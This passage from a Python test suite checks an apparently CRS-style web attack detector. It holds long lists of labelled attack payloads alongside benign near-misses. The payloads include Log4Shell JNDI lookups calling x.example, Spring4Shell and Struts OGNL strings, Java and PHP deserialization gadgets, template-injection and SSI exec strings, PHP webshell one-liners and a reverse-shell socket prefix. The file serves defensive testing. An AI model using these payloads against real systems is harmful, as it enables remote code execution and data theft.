    ("944150 log4shell", "json", "${${lower:jn}${lower:di}:${lower:ld}ap://x.example/a}"),
    ("944150 log4shell", "cookie", "${${::-j}ndi:dns://x.example/a}"),
    ("944150 log4shell", "ua", "${jndi:${lower:r}mi://x.example/a}"),
    ("944150 log4shell", "xff", "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x.example/a}"),
    ("944150 log4shell", "jkey", "${jndi:ldap://x.example/k}"),
    # 944260 (v4) malicious class loading (Spring4Shell, Spring Cloud Function)
    ("944260 class loading", "rawform", "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    ("944260 class loading", "rawq", "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
    ("944260 class loading", "rawjson", '{"x":{"@type":"org.springframework.context.support.FileSystemXmlApplicationContext","configLocation":"http://x.example/b.xml"}}'),
    ("944260 class loading", "hdr", "T(java.lang.Runtime).getRuntime().exec(\"id\")"),
    # Struts OGNL through headers / filenames (S2-045/S2-046) and parameters
    ("struts ognl", "ctype", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id')}"),
    ("struts ognl", "ctype", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}.multipart/form-data"),
    ("struts ognl", "fname", "%{(#nike='multipart/form-data').(#cmd='id')}\0b"),
    ("struts ognl", "q", "(#c=@java.lang.Runtime@getRuntime()).(#c.exec('id'))"),
    # Java JSON/YAML polymorphic deserialization
    ("java json deserialization", "rawjson", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x.example/a"}]'),
    ("java json deserialization", "rawjson", '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}}'),
    ("java json deserialization", "rawjson", '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://x.example/a","autoCommit":true}'),
    ("java json deserialization", "form", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x.example/a', autoCommit: true}"),
    # Java EL / SpEL / MVEL / Groovy / script engines
    ("java expression language", "q", "${\"\".getClass().forName(\"java.lang.System\").getProperty(\"user.dir\")}"),
    ("java expression language", "hdr", "#{new java.lang.ProcessBuilder('id').start()}"),
    ("java expression language", "form", "Runtime.getRuntime().exec(\"id\").waitFor()"),
    ("java expression language", "q", "new groovy.lang.GroovyShell().evaluate('\"id\".execute().text')"),
]

CLASS_BENIGN = [
    # near-misses for the classes above
    ("q", "how do php data uri work"), ("q", "data:image/png;base64,iVBORw0KGgo="), ("fname", "holiday-photo.jpg"),
    ("fname", "php-cheatsheet.pdf"), ("fname", "notes.txt"), ("xfname", "report-2024.xlsx"), ("fname", "java-basics.pdf"),
    ("q", "ORDER BY price; limit 5"), ("form", "I have $5 and $_ is a perl variable"), ("q", "while loop in javascript"),
    ("q", "for loop syntax"), ("q", "Kernel panic on boot"), ("q", "Process Spawn in Unity"), ("q", "IO popen ruby docs"),
    ("q", "open3 capture2"), ("q", "object send ruby"), ("q", "pickle loads python security"), ("q", "yaml load vs safe_load"),
    ("form", "--- \ntitle: My post\ntags: [ruby, yaml]\n"), ("q", "ruby object: gem installer"),
    ("q", "marshal the troops"), ("q", "{{ product.title }} | {{ product.price }}"), ("q", "Dir entries listing"),
    ("q", "File.read in ruby"), ("form", "<%= link_to 'Home', root_path %>"), ("form", "<%= @user.name %>"),
    ("q", "@System.IO namespace docs"), ("form", "@Html.DisplayFor(m => m.Name)"), ("form", "@model MyApp.Models.User"),
    ("q", "{{ .Title }}"), ("q", "$(document).ready"), ("q", "esi include akamai"), ("q", "<esi> tag explained"),
    ("form", "echo var REMOTE_ADDR"), ("q", "java.lang.ProcessBuilder docs"), ("q", "org.omg.CORBA package"),
    ("q", "java.io.FileOutputStream example"), ("q", "log4j ${date:yyyy} pattern"), ("form", "Pattern: %d{yyyy-MM-dd} %-5p %c{1} - %m%n"),
    ("q", "class loader module java 9"), ("q", "spring cloud function routing expression"),
    ("ctype", "application/json; charset=utf-8"), ("ctype", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    ("ctype", "text/html;charset=UTF-8"), ("ctype", "application/vnd.api+json"),
    ("ctype", "application/x-www-form-urlencoded; charset=ISO-8859-1"), ("ctype", 'multipart/mixed; boundary="simple boundary"'),
    ("rawjson", '{"constructor":{"name":"Ferrari","founded":1939}}'), ("rawjson", '{"car":{"constructor":"Ferrari","prototype":"SF90"}}'),
    ("rawjson", '{"prototype":{"constructor":"lab"}}'), ("jkey", "shipping_address"),
    ("q", "groovy shell tutorial"), ("q", "java.lang.reflect.Method invoke example"), ("q", "2*3 = {6}"),
    ("q", "ruby %w(a b c) array"), ("q", "perl @{[ ]} trick explained"), ("q", "hash # key value"),
    ("form", "Ask {{agent_name}} about order {{order.id}} ({{order.total}})"),
    ("form", "Use <? and ?> carefully in XML processing instructions"),
    # FPs other helpers reported in this detector (round 1): all clean today, asserted here
    ("q", "$(document).ready(function() { init(); });"), ("form", "function() { return x; }"),
    ("form", "```python\nimport os\nprint(os.getcwd())\n```"), ("form", "```python\nimport os\nprint(os.environ.get('HOME'))\n```"),
    ("q", 'console.log("hi")'), ("form", "```python\nprint('hi')\n```"), ("q", "jQuery $(document).ready(function(){})"),
    ("ua", "$(document).ready(function() { init(); });"), ("json", "function() { return x; }"),
]

# A second class batch, written after the round-2 fixes and measured before any change for it: 50 / 50 caught; one of
# its near-misses (`what is process.env`) was flagged and fixed (the bare member needs code around it or to be the value)
BATCH2 = [
    ("933100 php open tag", "mp", "<?PHP\nsystem($_GET['x']);"),
    ("933100 php open tag", "jsonu", "<?= $_GET[0] ?>"),
    ("933120 php ini directive", "mpfile", "php_value auto_prepend_file \"/tmp/sess_x\"\n"),
    ("933120 php ini directive", "q", "ini_set('open_basedir', '/')"),
    ("933130 php variables", "hdr", "{$_REQUEST['c']}"),
    ("933130 php variables", "ent", "$_FILES['f']['tmp_name']"),
    ("933140 php io stream", "cookie", "php://output"),
    ("933200 php wrapper", "json", "zip://../uploads/x.jpg%23shell"),
    ("933160 php high-risk call", "q", "Shell_Exec ('id')"),
    ("933160 php high-risk call", "b64", "assert(base64_decode($_COOKIE['z']));"),
    ("933170 php serialized object", "jsonu", 'O:8:"Template":1:{s:4:"file";s:7:"x.php";}'),
    ("933180 php variable call", "q", "$_GET['f']($_GET['a'])"),
    ("933180 php variable call", "form", "$a = $_POST['a']; $a($_POST['b']);"),
    ("933210 php call evasion", "q", "('s'.'y'.'s'.'t'.'e'.'m')('id')"),
    ("933151 php medium-risk call", "q", "array_walk($_GET, 'system')"),
    ("934170 php data scheme", "json", "data:;base64,PD9waHAgZWNobyAxOyA/Pg=="),
    ("934100 node injection", "jsonu", "require('child_process').execSync('id')"),
    ("934100 node injection", "hdr", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"),
    ("934101 node injection 2", "cookie", "process.env.SECRET"),
    ("934130 prototype pollution", "rawform", "__proto__.admin=1"),
    ("934130 prototype pollution", "rawq", "constructor[prototype][toString]=x"),
    ("934160 node dos", "form", "do{}while(true)"),
    ("934140 perl injection", "cookie", "system('id')"),
    ("934150 ruby injection", "json", "IO.readlines('/etc/passwd')"),
    ("934150 ruby injection", "q", "`id`.to_s"),
    ("ruby deserialization", "mpfile", "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n"),
    ("python deserialization", "b64", "!!python/object/apply:subprocess.Popen [[\"id\"]]"),
    ("python injection", "json", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)"),
    ("python injection", "q", "os.popen('id').read()"),
    ("ssti jinja2", "cookie", "{{ request.__class__.__mro__ }}"),
    ("ssti jinja2", "hdr", "{% set x = cycler.__init__.__globals__ %}"),
    ("ssti twig", "json", "{{['id']|filter('exec')}}"),
    ("ssti freemarker", "form", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}"),
    ("ssti velocity", "q", "#set($s=\"\")#set($r=$s.getClass().forName(\"java.lang.Runtime\"))"),
    ("ssti erb", "json", "<%= IO.read('/etc/passwd') %>"),
    ("ssti smarty", "cookie", "{Smarty_Internal_Write_File::writeFile('x.php','<?php phpinfo();?>',self::clearConfig())}"),
    ("ssti probe", "jsonu", "{{ 3*3 }}"),
    ("ssti probe", "form", "#{ 5*5 }"),
    ("ssi exec", "path", "<!--#exec cmd=\"id\"-->"),
    ("ssi include", "mp", "<!--#include virtual=\"/etc/passwd\"-->"),
    ("esi", "ua", "<esi:include src=\"http://x.example/\"/>"),
    ("944100 java class", "b64", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("944120 java gadget", "xml", "<java.util.PriorityQueue><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>outputProperties</property></comparator></java.util.PriorityQueue>"),
    ("944130 java class list", "form", "new java.io.File(\"/etc/passwd\").delete()"),
    ("944150 log4shell", "jsonu", "${jndi:ldap://x.example/a}"),
    ("944150 log4shell", "mp", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/a}"),
    ("944260 class loading", "rawq", "class.module.classLoader.URLs[0]=0"),
    ("struts ognl", "hdr", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X','Y')}"),
    ("java json deserialization", "rawjson", '{"object":["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://x.example/a"}]}'),
    ("java expression language", "json", "T(java.lang.System).getenv()"),
]
BATCH2_BENIGN = [
    ("q", "php array_walk example"), ("q", "what is process.env"), ("form", "I paid $5 for {$item}"),
    ("form", "--- \nname: shop\nversion: 1.2\n"), ("q", "os popen vs subprocess"), ("q", "{{ 3 }} items"),
    ("q", "java.io.File docs"), ("q", "do while true loop c"), ("json", "constructor: Mercedes"),
]

# Template probes written last (9 / 12 before their fix: Go `{{ . }}` / `call`, Jinjava `x.getClass()`); Go's
# `{{ .Request.Header }}` (a field of the data object) stays a miss: it reads like any `{{ .Title }}`
TEMPLATE_EXTRA = [
    ("ssti go template", "q", "{{ . }}"), ("ssti go template", "q", '{{printf "%#v" .}}'),
    ("ssti go template", "form", '{{ call .Func "id" }}'), ("ssti blade", "q", "@php system('id'); @endphp"),
    ("ssti blade", "q", "{{ system('id') }}"), ("ssti blade", "form", "{{ exec('id') }}"),
    ("ssti jinjava", "q", "{{ variable.getClass() }}"), ("ssti jinjava", "q", "{% set cmd = 'id' %}{{ ''.getClass().forName('java.lang.Runtime') }}"),
    ("ssti jsp", "q", '<%@ page import="java.io.*" %>'), ("ssti jsp", "form", '<jsp:scriptlet>Runtime.getRuntime().exec("id");</jsp:scriptlet>'),
    ("ssti jsp", "q", '<% out.println("x"); %>'), ("ssti nunjucks", "q", "{{ ''.constructor.constructor('return process')() }}"),
    # kept caught while narrowing the rules for the FPs below (written then, caught on first run)
    ("ssti erb probe", "q", "<% if 1 == 1 %>ok<% end %>"), ("ssti erb probe", "form", "<%= if true %>yes<% end %>"),
    ("python injection", "q", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)"),
    ("933160 php high-risk call", "q", "\".getenv('DB_PASS').\""), ("933160 php high-risk call", "form", "@copy($_FILES['f']['tmp_name'],'x.php')"),
    ("934130 prototype pollution", "rawq", "x[constructor][prototype][polluted]=1"),
]
TEMPLATE_EXTRA_BENIGN = [
    ("q", "{{ .Title }}"), ("form", "{{ range .Items }}{{ .Name }}{{ end }}"), ("form", "{{ range .Tags }}{{ . }}{{ end }}"),
    ("form", "@php"), ("form", "{{ variable }}"), ("q", "{{ user.getName() }}"), ("form", "{{ with .Params.author }}{{ . }}{{ end }}"),
    ("form", "{{ range $i, $e := .Pages }}{{ $e.Title }}{{ end }}"), ("form", "<%= @post.title %> by <%= @post.author %>"),
    # code snippets this detector flagged before round 2's narrowing (`import os, sys` header line, methods named like
    # PHP functions, Rails views, reading a prototype)
    ("q", "import os, sys"), ("form", "import os, sys, json\nprint(sys.argv)"), ("q", 'os.getenv("HOME")'),
    ("q", "shutil.copy('a.txt', 'b.txt')"), ("form", "glob.glob('*.csv')"), ("q", "os.chmod('run.sh', 0o755)"),
    ("form", "<%= form_with model: @post do |f| %>"), ("form", "<% if user_signed_in? %>Hi<% end %>"),
    ("q", "<%= file_field :avatar %>"), ("q", "Object.keys(constructor.prototype)"),
    ("q", "Object.getOwnPropertyNames(constructor.prototype).length"),
]

# Benign values of CLASS_BENIGN that another family's detector (rce) flags today; only this file's rules are held
# to silence on them (the honesty test above fails once one turns clean).
OTHER_DETECTORS |= {("q", "log4j ${date:yyyy} pattern"), ("q", "ruby %w(a b c) array"),
                    ("q", "perl @{[ ]} trick explained")}


def _ids(rows: list[tuple[str, str]]) -> list[str]:
    return [f"{c}:{v[:40]}" for c, v in rows]


@pytest.mark.parametrize("name", sorted(REAL_WORLD))
def test_public_exploit_request_is_detected(engine, name):
    assert verdict(engine.inspect(REAL_WORLD[name])) == "attack"


def test_wild_benign_list_raises_no_code_template_or_ssi_hit(engine):
    from tests.detect.test_wild_benign import KNOWN_FP   # the exact list of benign values still flagged, kept there
    known = {f"{c}:{v}" for c, v in KNOWN_FP}
    flagged = [(h.rule, h.value[:60]) for label, r in benign_requests() if label not in known for h in engine.inspect(r)
               if h.score >= THRESHOLD and h.rule in MINE]
    assert not flagged


def test_set_sizes_and_uniqueness():
    assert len(set(ATTACKS)) == len(ATTACKS) >= 150
    assert len(set(BENIGN)) == len(BENIGN) >= 100
    assert OTHER_DETECTORS <= set(BENIGN) | set(CLASS_BENIGN)


def test_other_detectors_list_holds_only_values_still_flagged(engine):
    # once another detector stops flagging one, it must leave the list so the whole verdict is asserted clean
    assert not [cv for cv in OTHER_DETECTORS if verdict(engine.inspect(build(*cv))) != "attack"]


def test_struts_ognl_in_content_type_is_seen_in_that_header(engine):
    # S2-045: the points layer shows a Content-Type that is not a plain media type; the OGNL is found there
    hits = engine.inspect(build("ctype", "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"))
    assert any(h.point == ["header", "CONTENT-TYPE"] and h.rule in MINE and h.score >= THRESHOLD for h in hits), hits


def test_json_constructor_prototype_key_is_prototype_pollution(engine):
    hits = engine.inspect(build("rawjson", '{"constructor":{"prototype":{"isAdmin":true}}}'))
    assert any(h.rule == "node:prototype_pollution" and h.point[-1] == "#key" for h in hits), hits
    clean = engine.inspect(build("rawjson", '{"constructor":{"name":"Ferrari","team":"SF"},"prototype":"SF90"}'))
    assert not [h for h in clean if h.score >= THRESHOLD], clean


def test_class_sets_are_distinct_and_sized():
    assert len(set(CLASS_ATTACKS + BATCH2)) == len(CLASS_ATTACKS + BATCH2) >= 200
    assert len(set(CLASS_BENIGN + BATCH2_BENIGN)) == len(CLASS_BENIGN + BATCH2_BENIGN) >= 70
    assert not set(CLASS_BENIGN) & set(BENIGN)


# --- Round 3: CRS 4.25's 933 rules as the checklist (new vocabularies: php-function-names-933150.data and the names
# of 933151-933153, 933120's directive list, php-variables.data's additions, 933135 `${…}`, bzip2://), then a second
# batch of techniques around them (.htaccess handlers, PHP 8 named arguments, `mail()` sendmail flags, built-in class
# instantiation, Symfony YAML `!php/` tags). Written before the fix. First pass on the code before round 3:
# R3_ATTACKS 64 / 84 caught, R3_BENIGN 6 / 65 flagged; R3B_ATTACKS (written after R3's fix) 36 / 42 both before round 3
# and on R3's fix, R3B_BENIGN 0 / 33.
# Deliberately not caught: `gethostbyname('x.oast.example')` (C / Perl call the same name with the same argument).
R3_ATTACKS = [
    # 933100 open tag: short tags with any code, comment-first, `<?xml` followed by code
    ("933100 php open tag r3", "form", "<? /* cache */ passthru($_REQUEST['q']); ?>"),
    ("933100 php open tag r3", "q", "<?\n  $o = `uname -a`; print $o;\n?>"),
    ("933100 php open tag r3", "mpfile", "GIF89a\n<? $f=fopen('s.php','w'); ?>"),
    ("933100 php open tag r3", "cookie", "<?xml:namespace prefix=\"php\"?><?php readfile('/etc/issue');"),
    # 933110 php upload names (trailing dots, case, less common extensions)
    ("933110 php upload r3", "fname", "shell.php...."),
    ("933110 php upload r3", "xfname", "Invoice.PHTML"),
    ("933110 php upload r3", "fname", "backup.phps"),
    ("933110 php upload r3", "fname", "tests.phpt"),
    # 933120 ini directives from the CRS 4 list (dotted extension settings, callback settings)
    ("933120 php ini directive r3", "q", "-d cgi.force_redirect=0 -d cgi.redirect_status_env=0"),
    ("933120 php ini directive r3", "form", "unserialize_callback_func=system"),
    ("933120 php ini directive r3", "mpfile", "[PHP]\nphar.readonly = 0\nzend.assertions = 1\n"),
    ("933120 php ini directive r3", "json", "yaml.decode_php=1"),
    ("933120 php ini directive r3", "cookie", "mysqli.allow_local_infile=On"),
    ("933120 php ini directive r3", "q", "session.serialize_handler=php_serialize"),
    ("933120 php ini directive r3", "hdr", "opcache.file_cache=/tmp/oc"),
    ("933120 php ini directive r3", "form", "register_argc_argv=1"),
    # 933130 variables new in the CRS 4 list and superglobals reached in other shapes
    ("933130 php variables r3", "q", "print_r($http_response_header);"),
    ("933130 php variables r3", "form", "echo $php_errormsg;"),
    ("933130 php variables r3", "json", "system($argv[1]);"),
    ("933130 php variables r3", "hdr", "$HTTP_SERVER_VARS['REMOTE_ADDR']"),
    # 933135 (v4) `${…}` variable access
    ("933135 php var access r3", "q", "${_GET}[0](${_GET}[1])"),
    ("933135 php var access r3", "form", "${\"_POST\"}['c']"),
    ("933135 php var access r3", "cookie", "{${ _SERVER }['HTTP_X_CMD']}"),
    # 933140 / 933200 wrappers
    ("933140 php io stream r3", "q", "PHP://Temp/maxmemory:1024"),
    ("933140 php io stream r3", "json", "php://filter/zlib.deflate|convert.base64-encode/resource=/etc/passwd"),
    ("933200 php wrapper r3", "q", "bzip2://uploads/x.bz2"),
    ("933200 php wrapper r3", "form", "ssh2.sftp://u:p@198.51.100.7:22/etc/shadow"),
    ("933200 php wrapper r3", "cookie", "ssh2.tunnel://198.51.100.7:22"),
    # 933150 (v4, 235 names) high-risk names called
    ("933150 php high-risk name r3", "q", "function_exists('system')"),
    ("933150 php high-risk name r3", "form", "dirname(__FILE__)"),
    ("933150 php high-risk name r3", "q", "runkit_function_redefine('strlen','$s','return `id`;')"),
    ("933150 php high-risk name r3", "json", "getcwd()"),
    ("933150 php high-risk name r3", "q", "getmypid()"),
    ("933150 php high-risk name r3", "cookie", "get_cfg_var('disable_functions')"),
    ("933150 php high-risk name r3", "form", "error_reporting(0);"),
    ("933150 php high-risk name r3", "q", "debug_backtrace()"),
    ("933150 php high-risk name r3", "hdr", "phpversion()"),
    ("933150 php high-risk name r3", "q", "method_exists($o,'__destruct')"),
    ("933150 php high-risk name r3", "form", "set_magic_quotes_runtime(0)"),
    ("933150 php high-risk name r3", "q", "getimagesize('phar://uploads/a.gif')"),
    ("933150 php high-risk name r3", "json", "json_decode($_COOKIE['p'])"),
    ("933150 php high-risk name r3", "q", "php_strip_whitespace('index.php')"),
    ("933150 php high-risk name r3", "mp", "spl_autoload_register(function($c){include $c;});"),
    ("933150 php high-risk name r3", "q", "simplexml_load_string($_POST['x'])"),
    ("933150 php high-risk name r3", "form", "header_register_callback('phpinfo');"),
    ("933150 php high-risk name r3", "q", "exif_read_data('/var/www/up/a.jpg')"),
    ("933150 php high-risk name r3", "cookie", "ini_get('open_basedir')"),
    ("933150 php high-risk name r3", "q", "getmyuid()"),
    # 933160 high-risk calls (the CRS 4 PL1 names) with PHP arguments
    ("933160 php high-risk call r3", "q", "md5(file_get_contents('/etc/hostname'))"),
    ("933160 php high-risk call r3", "form", "unlink('../index.php');"),
    ("933160 php high-risk call r3", "q", "mkdir('/var/www/html/x', 0777);"),
    ("933160 php high-risk call r3", "json", "intval($_GET['id'])"),
    ("933160 php high-risk call r3", "q", "printf($_GET['fmt'])"),
    ("933160 php high-risk call r3", "cookie", "file('/etc/passwd')"),
    ("933160 php high-risk call r3", "q", "tmpfile()"),
    ("933160 php high-risk call r3", "form", "imagepng($im, 'shell.php')"),
    ("933160 php high-risk call r3", "q", "stat('/etc/shadow')"),
    ("933160 php high-risk call r3", "hdr", "substr(php_uname(), 0, 5)"),
    ("933160 php high-risk call r3", "q", "filegroup('/etc/shadow')"),
    ("933160 php high-risk call r3", "ua", "exp(710)"),
    # 933151-933153 (v4 PL2 lists): names the 3.3 list lacked, called with PHP arguments
    ("933151 php medium-risk call r3", "q", "scandir('/var/www')"),
    ("933151 php medium-risk call r3", "form", "readlink('/proc/self/exe')"),
    ("933151 php medium-risk call r3", "json", "symlink('/etc/passwd', 'p.txt')"),
    ("933151 php medium-risk call r3", "q", "tempnam('/tmp', 'x')"),
    ("933151 php medium-risk call r3", "cookie", "realpath('../../')"),
    ("933151 php medium-risk call r3", "q", "stream_context_create(['http'=>['proxy'=>'tcp://198.51.100.7:8080']])"),
    ("933151 php medium-risk call r3", "form", "sodium_crypto_box_keypair()"),
    ("933151 php medium-risk call r3", "q", "rawurldecode('%73%79%73%74%65%6d')('id')"),
    ("933151 php medium-risk call r3", "q", "readgzfile('/tmp/a.gz')"),
    ("933151 php medium-risk call r3", "hdr", "apache_getenv('PATH')"),
    ("933151 php medium-risk call r3", "q", "escapeshellcmd($_GET['c'])"),
    # 933170 serialized objects in more places
    ("933170 php serialized object r3", "ref", 'https://shop.example/?d=O:4:"Vuln":1:{s:3:"cmd";s:2:"id";}'),
    ("933170 php serialized object r3", "q", 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\\0*\\0events";O:25:"Illuminate\\Bus\\Dispatcher":0:{}}'),
    ("933170 php serialized object r3", "cookie", 'a:1:{s:4:"user";O:4:"User":1:{s:5:"admin";b:1;}}'),
    # 933180 variable function calls
    ("933180 php variable call r3", "q", "$x(chr(105).chr(100))"),
    ("933180 php variable call r3", "form", "$GLOBALS['fn']('id')"),
    ("933180 php variable call r3", "q", "$a[0]($a[1])"),
    ("933180 php variable call r3", "cookie", "$f (getcwd())"),
    ("933180 php variable call r3", "json", "$_COOKIE[a]($_COOKIE[b])"),
    # 933210 calls through a computed name
    ("933210 php call evasion r3", "form", "\\passthru('uname -a');"),
    ("933210 php call evasion r3", "form", "(implode('',['sys','tem']))('id');"),
    ("933210 php call evasion r3", "q", "[\"sys\".\"tem\"][0](\"id\");"),
    ("933210 php call evasion r3", "json", "(strtolower('SYSTEM'))('id');"),
    ("933210 php call evasion r3", "q", "('ex'.'ec')('id', $o);"),
]
R3_BENIGN = [
    ("q", "what does <? mean in php"), ("form", '<?xml version="1.0" encoding="UTF-8"?>\n<order id="7"/>'),
    ("q", "<?xml version=\"1.0\"?>"), ("fname", "php-manual.pdf"), ("fname", "photos.phpbb.zip"),
    ("q", "how to set date.timezone in php.ini"), ("q", "session.save_path permission denied"),
    ("form", "engine=v8 precision=2 user_agent=curl"), ("q", "user_agent=Mozilla/5.0"), ("q", "precision = 2 decimal places"),
    ("q", "argv and argc in C"), ("form", "Costs $12 (approx) per month"), ("form", "Hello ${name}, your order ${orderId} shipped"), ("q", "bzip2 vs gzip compression"),
    ("q", "ssh2 sftp php extension"), ("q", "php dirname function"), ("q", "getcwd in python"),
    ("q", "md5 checksum of iso"), ("q", "strlen vs mb_strlen"), ("q", "function exists check"),
    ("form", "printf(\"%d items\\n\", n);"), ("q", "Math.exp(2)"), ("q", "exp(2) calculator"),
    ("q", "=TRIM(A1)"), ("q", "str.substr(0, 3)"), ("q", "os.mkdir('out')"), ("q", "ord('a') python"),
    ("q", "struct.unpack('<I', data)"), ("q", "md5sum file.iso"), ("form", "file a complaint (customer service)"), ("q", "unlink vs rmdir"),
    ("q", "tmpfile"), ("q", "imagepng transparency"), ("q", "intval in php"), ("q", "json_decode returns null"),
    ("q", "getimagesize slow"), ("q", "error reporting (0) in wordpress"), ("q", "symlink windows"), ("q", "scandir sort by date"), ("q", "gethostbyname timeout"),
    ("form", "$a (apples) + $b (bananas)"), ("q", "path.dirname(__filename)"), ("q", "os.path.dirname(__file__)"),
    ("q", "os.getcwd()"), ("q", "C# (string)obj cast"),
    ("q", "O:5 am meeting"), ("q", "a:1 sauce"), ("form", "Ratio 4:3, size XL"), ("q", "file.phps syntax highlight"),
    ("q", "dirname(__file__)"), ("q", "p.is_file()"), ("q", "Path('a').is_dir()"), ("q", "urlencode({'q': 'x'})"),
    ("q", "sqrt(2)"), ("q", "strlen(s) in C"), ("form", "fwrite(buf, 1, n, fp);"), ("q", "imagecreate php gd"),
    ("q", "engine = v8 or spidermonkey"), ("form", "Make = Audi\nEngine = 2.0 TDI\nPrecision = high"), ("q", "max_execution_time php.ini"),
    ("q", "opcache settings"), ("q", "mysqli allow_local_infile"), ("q", "$_ in perl"),
    ("q", "tempnam vs tmpfile"), ("q", "sodium crypto box example"),
]
R3B_ATTACKS = [
    ("933100 php open tag r3", "xff", "<?php system($_GET['c']); ?>"),
    ("933100 php open tag r3", "ua", "Mozilla/5.0 <?php passthru($_GET['c']); ?>"),
    ("933100 php open tag r3", "path", "<?php phpinfo(); ?>"),
    ("933100 php open tag r3", "b64", "<?PHP\tprint `id`;"),
    ("933100 php open tag r3", "xml", "<?xml version=\"1.0\"?><r><?php echo file_get_contents('/etc/passwd'); ?></r>"),
    ("933110 php upload r3", "mpfile", "AddType application/x-httpd-php .jpg"),
    ("933110 php upload r3", "mpfile", "<FilesMatch \"\\.jpg$\">\nSetHandler application/x-httpd-php\n</FilesMatch>"),
    ("933120 php ini directive r3", "mpfile", "auto_prepend_file=avatar.jpg\n"),
    ("933120 php ini directive r3", "rawq", "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("933120 php ini directive r3", "rawq", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
    ("933120 php ini directive r3", "q", "ini_set('error_log', '/var/www/html/s.php')"),
    ("933130 php variables r3", "q2", "$_COOKIE['x']"),
    ("933130 php variables r3", "jsonu", "$GLOBALS['_GET']['c']"),
    ("933150 php high-risk name r3", "q", "system(command: 'id')"),
    ("933150 php high-risk name r3", "form", "$f = system(...); $f('id');"),
    ("933150 php high-risk name r3", "q", "file_exists('phar:///tmp/up/x.jpg')"),
    ("933150 php high-risk name r3", "form", "set_error_handler('system'); trigger_error('id');"),
    ("933150 php high-risk name r3", "q", "session_set_save_handler('system','x','x','x','x','x')"),
    ("933150 php high-risk name r3", "json", "iterator_apply($it, 'system', ['id'])"),
    ("933150 php high-risk name r3", "q", "highlight_file(__FILE__);"),
    ("933150 php high-risk name r3", "cookie", "mail('a@x.example','s','b','','-X/var/www/html/x.php')"),
    ("933160 php high-risk call r3", "q", "SyStEm('id')"),
    ("933160 php high-risk call r3", "form", "system\n('id')"),
    ("933160 php high-risk call r3", "q", "assert/*x*/($_REQUEST['c'])"),
    ("933160 php high-risk call r3", "json", "eval(gzinflate(str_rot13(base64_decode('S0ktLgEA'))))"),
    ("933170 php serialized object r3", "json", 'O:10:"PDOStatement":0:{}'),
    ("933170 php serialized object r3", "cookie", 'a:2:{i:0;s:1:"a";i:1;O:8:"SoapClient":1:{s:8:"location";s:18:"http://x.example/";}}'),
    ("933170 php serialized object r3", "b64", 'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:36:"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename";s:9:"shell.php";}'),
    ("933170 php serialized object r3", "form", "!php/object 'O:8:\"stdClass\":0:{}'"),
    ("933180 php variable call r3", "q", "@$_POST['x']($_POST['y'])"),
    ("933180 php variable call r3", "form", "$a=$_GET;$a[0]($a[1]);"),
    ("933180 php variable call r3", "q", "new $_GET['c']($_GET['a'])"),
    ("933180 php variable call r3", "json", "$f=strrev(\"metsys\");$f(\"id\");"),
    ("933210 php call evasion r3", "q", "\"\\163\\171\\163\\164\\145\\155\"(\"id\");"),
    ("933210 php call evasion r3", "form", "array_map(\"ass\".\"ert\", [$_POST['c']]);"),
    ("933210 php call evasion r3", "q", "(function(){ return 'sys'.'tem'; })()('id');"),
    ("php object instantiation r3", "q", "new SplFileObject('/etc/passwd')"),
    ("php object instantiation r3", "form", "new DirectoryIterator('glob:///var/www/*')"),
    ("php object instantiation r3", "json", "(new ReflectionClass('Exception'))->newInstanceArgs([$_GET['a']])"),
    ("php object instantiation r3", "q", "new PDO('sqlite:/var/www/html/x.php')"),
    ("symfony yaml php tag r3", "mpfile", "foo: !php/object 'O:8:\"stdClass\":0:{}'\n"),
    ("symfony yaml php tag r3", "form", "bar: !php/const PHP_VERSION"),
]
R3B_BENIGN = [
    ("q", "php system requirements"),
    ("q", "system command line arguments"), ("form", "The system (v2) is down again"),
    ("q", "new Date('2024-01-01')"), ("q", "new Promise((resolve) => resolve(1))"), ("q", "new Map()"),
    ("form", "Add type: application/pdf"), ("q", "AddType explained"), ("q", "SetHandler server-status"),
    ("q", "splfileobject example"), ("q", "DirectoryIterator vs scandir"), ("q", "reflectionclass get properties"),
    ("q", "pdo sqlite connection string"), ("q", "new Pdo (the sqlite one)"), ("form", "mail(to, subject, body, headers, '-fbilling@shop.example')"),
    ("form", "Please mail -X ray results to the clinic"), ("q", "AddType application/pdf .pdf"), ("q", "php object yaml"), ("q", "symfony yaml php const tag"), ("q", "O:8 flight 8:15"),
    ("form", "my email is a@b.example, subject: hi"), ("q", "mail() not sending in php"),
    ("q", "file exists phar wrapper"), ("q", "highlight file with vim"), ("q", "session save handler redis"),
    ("q", "set error handler laravel"), ("form", "iterator apply example"), ("q", "$f = $a * 2 (approx)"),
